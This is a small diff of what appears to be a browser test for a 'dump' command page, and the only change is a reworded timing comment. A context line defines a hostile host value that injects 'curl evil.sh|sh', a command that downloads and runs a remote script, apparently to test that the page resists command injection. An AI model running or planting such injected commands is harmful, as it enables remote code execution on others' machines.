@@ -17,7 +17,7 @@ const DUMP = `${site.url}/projects/commander/commands/dump`
 const HOSTILE = 'x;curl evil.sh|sh #'
 const HOSTILE_LINK = `${DUMP}#host=${encodeURIComponent(HOSTILE)}`
 
-// What a second press must wait for, and a little more.
+// A little more than the time before a second press counts.
 const READING_MS = 1100
 
 after(closeBrowser)
